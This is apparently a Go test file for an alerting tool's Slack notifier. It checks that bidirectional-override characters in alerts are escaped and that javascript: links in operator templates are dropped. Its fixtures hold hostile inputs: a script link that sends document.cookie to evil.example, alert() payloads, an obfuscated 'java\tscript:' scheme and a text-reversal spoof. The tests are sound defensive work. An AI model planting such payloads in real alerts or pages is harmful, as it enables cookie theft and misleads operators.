package slack_test

import (
	"context"
	"encoding/json"
	"strings"
	"testing"

	"github.com/alertrouter/alertrouter/notify/notifytest"
	"github.com/alertrouter/alertrouter/notify/slack"
	"github.com/alertrouter/alertrouter/routing/alert"
)

// visibleTexts are the "text" strings of a message's blocks (what Slack
// shows), not its buttons' values (the state the router reads back).
func visibleTexts(t *testing.T, blocks json.RawMessage) []string {
	t.Helper()
	var v any
	if err := json.Unmarshal(blocks, &v); err != nil {
		t.Fatal(err)
	}
	var out []string
	var walk func(any, string)
	walk = func(v any, key string) {
		switch x := v.(type) {
		case map[string]any:
			for k, e := range x {
				walk(e, k)
			}
		case []any:
			for _, e := range x {
				walk(e, key)
			}
		case string:
			if key == "text" {
				out = append(out, x)
			}
		}
	}
	walk(v, "")
	return out
}

// An alert's bidirectional controls (U+202E) reached Slack as written and
// reversed the router's own words around them: a card's header read
// "[PAGE] DiskFull gnirif 1 action: none no-write" (an audit, rendered in
// Chromium). They are shown as "[U+202E]" wherever the card, its fallback
// text and an operator's template print alert data; the silence's labels
// in the buttons keep them as they are.
func TestBidiControlsFromAlertsAreShownNotObeyed(t *testing.T) {
	const name = "DiskFull \u202eetirw-on enon :noitca"
	for _, tc := range []struct {
		name   string
		mutate func(*slack.Config)
	}{
		{"built-in texts", nil},
		{"an operator's title and text", func(c *slack.Config) {
			c.Title = `{{ .CommonLabels.alertname }} ({{ .Status }})`
			c.Text = `{{ range .Alerts }}{{ .Labels.alertname }}: {{ .Annotations.summary }}{{ end }}`
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			h := newHarness(t)
			r := notifytest.Result(name, "aaa", "firing", alert.ActionPage)
			r.Alert.Annotations["summary"] = "disk \u202efull"
			no := notifytest.Notification("triage", alert.KindFiring, alert.ActionPage, r)
			no.Opening = true
			if err := h.notifier(t, tc.mutate).Notify(context.Background(), no); err != nil {
				t.Fatal(err)
			}
			m := h.srv.Parents()[0]
			for _, s := range append(visibleTexts(t, m.Blocks), m.Text) {
				if strings.ContainsRune(s, '\u202e') {
					t.Errorf("Slack shows a raw U+202E in %q", s)
				}
			}
			if !strings.Contains(string(m.Blocks)+m.Text, "[U+202E]") {
				t.Errorf("the alert's U+202E is not shown as [U+202E]: text %q", m.Text)
			}
		})
	}
}

// An operator's Slack template drawing an annotation or the generator URL
// as a link (`<{{ .CommonAnnotations.runbook_url }}|runbook>`, as
// Alertmanager's users write) sent a `javascript:` one to Slack, and a
// templated icon_url too, while the built-in links and PagerDuty's left
// them out (an audit): such values read empty in the template, and an
// icon_url that renders to no http(s) URL is left out.
func TestScriptLinksFromAlertsReachNoOperatorTemplate(t *testing.T) {
	h := newHarness(t)
	r := notifytest.Result("TTFTHigh", "aaa", "firing", alert.ActionPage)
	r.Alert.Annotations["runbook_url"] = ` JavaScript:fetch("//evil.example/"+document.cookie)`
	r.Alert.GeneratorURL = "javascript:alert('gen')"
	no := notifytest.Notification("triage", alert.KindFiring, alert.ActionPage, r)
	no.Opening = true
	n := h.notifier(t, func(c *slack.Config) {
		c.Text = `Runbook: <{{ .CommonAnnotations.runbook_url }}|runbook> gen={{ (index .Alerts 0).GeneratorURL }}`
		c.IconURL = `{{ .CommonAnnotations.runbook_url }}`
	})
	if err := n.Notify(context.Background(), no); err != nil {
		t.Fatal(err)
	}
	m := h.srv.Parents()[0]
	if all := strings.ToLower(string(m.Blocks) + m.Text + m.IconURL); strings.Contains(all, "javascript:") {
		t.Fatalf("Slack got a javascript: link: text %q, icon %q, blocks %s", m.Text, m.IconURL, m.Blocks)
	}
	if !strings.Contains(string(m.Blocks), "Runbook: ") {
		t.Fatalf("the operator's text is missing: %s", m.Blocks)
	}
}

// A summary or description that only starts like a script link ("Data:
// replication lag…", "JavaScript: heap out of memory") read empty in an
// operator's template (a review): only a value drawn as a link — one word,
// or an annotation named for a link — is left out.
func TestTextStartingLikeASchemeStaysInOperatorTemplates(t *testing.T) {
	h := newHarness(t)
	r := notifytest.Result("TTFTHigh", "aaa", "firing", alert.ActionPage)
	r.Alert.Annotations["summary"] = "Data: replication lag on db-1 exceeds 5m"
	r.Alert.Annotations["description"] = "JavaScript: heap out of memory on web-1"
	r.Alert.Annotations["runbook_url"] = "javascript: alert(document.cookie)"
	r.Alert.Annotations["dashboard_note"] = "Data: panel 3 shows the lag"
	r.Alert.Annotations["docs_link"] = "java\tscript:alert(1)#%zz"
	no := notifytest.Notification("triage", alert.KindFiring, alert.ActionPage, r)
	no.Opening = true
	n := h.notifier(t, func(c *slack.Config) {
		c.Text = `S=[{{ .CommonAnnotations.summary }}] D=[{{ .CommonAnnotations.description }}] R=[{{ .CommonAnnotations.runbook_url }}] N=[{{ .CommonAnnotations.dashboard_note }}] L=[{{ .CommonAnnotations.docs_link }}]`
	})
	if err := n.Notify(context.Background(), no); err != nil {
		t.Fatal(err)
	}
	b := string(h.srv.Parents()[0].Blocks)
	if !strings.Contains(b, "S=[Data: replication lag on db-1 exceeds 5m]") || !strings.Contains(b, "D=[JavaScript: heap out of memory on web-1]") || !strings.Contains(b, "R=[]") ||
		!strings.Contains(b, "N=[Data: panel 3 shows the lag]") || !strings.Contains(b, "L=[]") {
		t.Fatalf("the operator's text reads %s; want the summary and description as written, the runbook's script link left out", b)
	}
}
